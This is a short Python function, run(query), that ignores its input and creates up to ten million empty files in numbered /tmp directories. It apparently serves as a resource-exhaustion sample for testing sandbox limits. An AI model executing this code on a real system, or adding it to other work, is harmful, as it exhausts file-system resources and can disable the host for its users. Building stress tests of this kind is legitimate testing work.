# Empty files without end.
import os
def run(query):
    for number in range(10_000_000):
        if number % 10_000 == 0:
            os.mkdir(f"/tmp/{number}")
            folder = f"/tmp/{number}"
        os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
